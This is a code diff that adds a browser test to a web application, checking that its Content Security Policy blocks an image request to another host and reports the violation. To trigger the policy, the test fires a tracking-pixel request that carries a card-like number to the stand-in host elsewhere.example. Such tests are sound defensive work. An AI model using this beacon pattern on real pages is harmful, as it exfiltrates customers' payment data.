@@ -6,7 +6,7 @@ import path from 'node:path'
 import { after, before, describe, it } from 'node:test'
 import type { DeployHeaders } from '../../config/deploy-files'
 import { inlineScriptHashes } from '../../config/document-headers'
-import { useApp } from './harness'
+import { until, useApp } from './harness'
 
 const app = useApp()
 
@@ -48,6 +48,31 @@ describe('the product in a frame of another site', { concurrency: 1 }, () => {
       })
     }
   }
+})
+
+describe('what the policy refuses', { concurrency: 1 }, () => {
+  it('is reported by the browser, with the page and the site alone', async () => {
+    const visit = await app.visit({
+      customer: 'U1',
+      expectedErrors: /Content Security Policy|to another host: https:..elsewhere/,
+    })
+    await visit.open('/phone/assets/assetsDetail?positionId=U1-P05')
+    await visit.settle()
+    await visit.page.evaluate(() => {
+      const picture = new Image()
+      picture.src = 'https://elsewhere.example/pixel.gif?card=6222020200012345678'
+    })
+    type Report = Record<'name' | 'message' | 'route', string>
+    const reports = () => app.control<Report[]>('GET', 'errors')
+    await until('the report has come', async () => (await reports()).length > 0)
+    const [{ name, message, route }, ...others] = (await reports()) as [Report, ...Report[]]
+    assert.deepEqual(
+      [name, message, route],
+      ['PolicyViolation', 'img-src refused https://elsewhere.example', 'assets/position'],
+    )
+    assert.deepEqual(others, [])
+    await visit.close()
+  })
 })
 
 describe('where the customer is', { concurrency: 1 }, () => {
